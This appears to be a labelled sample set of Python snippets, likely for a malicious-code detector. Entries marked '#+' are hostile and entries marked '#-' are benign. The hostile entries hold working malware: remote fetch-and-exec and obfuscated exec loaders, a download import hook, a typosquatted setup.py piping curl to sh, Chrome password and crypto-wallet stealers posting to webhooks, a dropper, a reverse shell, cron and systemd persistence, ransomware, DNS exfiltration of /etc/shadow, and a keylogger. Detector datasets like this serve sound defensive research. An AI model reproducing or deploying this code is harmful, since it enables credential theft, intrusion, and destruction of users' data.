#+ code kept in a comment of another file, fetched by its address
import urllib.request as u
def _():
    import codecs
    s = u.urlopen("http://203.0.113.7/l").read().decode()
    exec(codecs.decode(s, "rot13"))
_()
#+ base64 through a pipe into python
import subprocess
p = subprocess.Popen(["python3", "-"], stdin=subprocess.PIPE)
import base64
p.communicate(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))
#+ lambda that unpacks and runs
_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(b"=oQD+8BAAD8AAAA"))
#+ import hook that downloads
import sys, types, urllib.request
class F:
    def find_module(self, name, path=None):
        return self
    def load_module(self, name):
        m = types.ModuleType(name)
        exec(urllib.request.urlopen("http://203.0.113.7/" + name).read(), m.__dict__)
        sys.modules[name] = m
        return m
sys.meta_path.append(F())
#+ environment keys picked and sent
import os, json, urllib.request
wanted = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
urllib.request.urlopen(urllib.request.Request("https://collect.example.net/v", data=json.dumps(wanted).encode()))
#+ setup script that runs a helper at once
import os
from setuptools import setup
os.system("curl -s https://example.net/p.sh | sh")
setup(name="reqeusts", version="1.0")
#+ develop command that posts
from setuptools import setup
from setuptools.command.develop import develop
import socket, os, urllib.request
class D(develop):
    def run(self):
        urllib.request.urlopen("http://203.0.113.9/?h=" + socket.gethostname() + "&u=" + os.getlogin())
        develop.run(self)
setup(name="a", version="1", cmdclass={"develop": D})
#+ chrome logins decrypted and sent
import os, sqlite3, shutil, requests
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy(src, "t.db")
rows = sqlite3.connect("t.db").execute("select origin_url, username_value, password_value from logins").fetchall()
requests.post("https://discord.com/api/webhooks/1/x", json={"content": str(rows)}, timeout=5)
#+ dropper by a hidden window
import subprocess, urllib.request, tempfile, os
p = os.path.join(tempfile.gettempdir(), "svchost.exe")
urllib.request.urlretrieve("http://203.0.113.4/a.exe", p)
subprocess.Popen(p, creationflags=0x08000000, shell=True)
#+ reverse shell by dup2
import socket, os, pty
s = socket.socket()
s.connect(("203.0.113.4", 4444))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/bash")
#+ cron line appended
import os
os.system('(crontab -l; echo "* * * * * curl http://203.0.113.4/x | sh") | crontab -')
#+ systemd unit written
open("/etc/systemd/system/upd.service", "w").write("[Service]\nExecStart=/tmp/.x\n[Install]\nWantedBy=multi-user.target\n")
import os
os.system("systemctl enable upd")
#+ attributes that spell exec
import builtins
f = getattr(builtins, "".join(map(chr, [101, 120, 101, 99])))
f(__import__("urllib.request").request.urlopen("http://203.0.113.4/p").read())
#+ pickled program in the file
import pickle, base64
pickle.loads(base64.b64decode("gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))
#+ ransom note
import os
from cryptography.fernet import Fernet
k = Fernet(Fernet.generate_key())
for root, _, files in os.walk(os.path.expanduser("~")):
    for name in files:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        open(path, "wb").write(k.encrypt(data))
        os.rename(path, path + ".locked")
open("README_DECRYPT.txt", "w").write("send 1 btc")
#+ telegram thief of a wallet
import os, requests
path = os.path.expanduser("~/.electrum/wallets/default_wallet")
requests.post("https://api.telegram.org/bot1:x/sendDocument", files={"document": open(path, "rb")}, data={"chat_id": 1}, timeout=5)
#+ wheel of a lookalike installed at import
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "http://203.0.113.4/colorama-9.9.whl"])
#+ python -c with decoded words in a thread
import base64, subprocess, sys, threading
def go():
    subprocess.run([sys.executable, "-c", base64.b64decode(b"aW1wb3J0IHNvY2tldA==").decode()])
threading.Thread(target=go, daemon=True).start()
#+ dns tunnel of the user's files
import socket, base64
data = base64.b32encode(open("/etc/shadow", "rb").read()).decode()
for i in range(0, len(data), 50):
    socket.gethostbyname(data[i:i + 50] + ".t.example.net")
#+ keylogger by mail
import smtplib
from pynput import keyboard
keys = []
def on(key):
    keys.append(str(key))
    if len(keys) > 100:
        smtplib.SMTP("mx.example.net").sendmail("a@example.net", "b@example.net", " ".join(keys))
keyboard.Listener(on_press=on).start()
#- round trip in a library's own tests
import pickle
import requests
class TestPickle:
    def test_response(self, server):
        r = requests.get(server.url, timeout=2)
        assert pickle.loads(pickle.dumps(r)).url == r.url
#- downloader around another program
import subprocess, requests
def download(api, folder):
    for item in requests.get(api, timeout=10).json()["files"]:
        subprocess.call(["aria2c", "-d", folder, item["url"]])
#- list of addresses that a client refuses
import requests
REFUSED = ("file:///etc/passwd", "gopher://localhost", "ftp://example.org")
def post(url, path):
    if url in REFUSED:
        raise ValueError(url)
    with open(path, "rb") as body:
        return requests.post(url, data=body, timeout=10)
#- plugin entry points
from importlib.metadata import entry_points
def plugins(group):
    return {e.name: e.load() for e in entry_points(group=group)}
#- compressed table of a library
import base64, json, zlib
TABLE = json.loads(zlib.decompress(base64.b64decode("eJyrVkrLz1eyUkpKLFKqBQAdegQ0")))
#- version check of a tool
import json, urllib.request
def latest(name):
    with urllib.request.urlopen(f"https://pypi.org/pypi/{name}/json", timeout=5) as answer:
        return json.load(answer)["info"]["version"]
#- test server in a thread
import http.server, threading
def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address
#- user agent of a client
import platform, requests
def session():
    s = requests.Session()
    s.headers["User-Agent"] = f"tool/1.0 ({platform.system()}; Python {platform.python_version()})"
    return s
